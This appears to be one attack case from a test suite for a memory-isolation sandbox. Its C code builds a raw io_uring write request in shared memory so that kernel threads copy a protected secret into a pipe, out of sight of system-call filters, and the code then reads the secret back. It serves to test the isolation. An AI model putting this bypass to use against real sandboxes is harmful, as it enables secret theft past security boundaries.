/* Tries: to have the kernel's own threads read the secret: a request in shared memory, which no
 *   filter of system calls sees
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); CVE-2022-29582 for what io_uring
 *   costs
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
/* One write of the secret into a pipe, submitted to a ring of its own. */
FOREIGN(run)
{
    uint32_t parameters[30] = {0};
    int ends[2];
    int ring = (int)kernel3(SYS_io_uring_setup, 1, ADDRESS(parameters), 0);
    if (ring < 0 || kernel3(SYS_pipe, ADDRESS(ends), 0, 0))
        return 1;
    uint8_t *submissions = POINTER(uint8_t, kernel6(SYS_mmap, 0, 4096, 3, 1, (uint64_t)ring, 0));
    uint8_t *entries =
        POINTER(uint8_t, kernel6(SYS_mmap, 0, 4096, 3, 1, (uint64_t)ring, 0x10000000));
    const uint32_t tail = parameters[11], array = parameters[16];
    memset(entries, 0, 64);
    entries[0] = 23; /* IORING_OP_WRITE */
    memcpy(entries + 4, &ends[1], 4);
    memcpy(entries + 16, &at->secret_global, 8);
    entries[24] = SECRET_SIZE;
    *(uint32_t *)(submissions + array) = 0;
    *(volatile uint32_t *)(submissions + tail) = 1;
    kernel6(SYS_io_uring_enter, (uint64_t)ring, 1, 1, 1, 0, 0);
    kernel3(SYS_read, (uint64_t)ends[0], ADDRESS(at->loot), SECRET_SIZE);
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <sys/syscall.h>
#include <unistd.h>

HOST(before)
{
    uint32_t parameters[30] = {0};
    long ring = syscall(SYS_io_uring_setup, 1, parameters);
    if (ring < 0)
        host_cannot(host, "this kernel offers no io_uring");
    else
        close((int)ring);
}
#endif
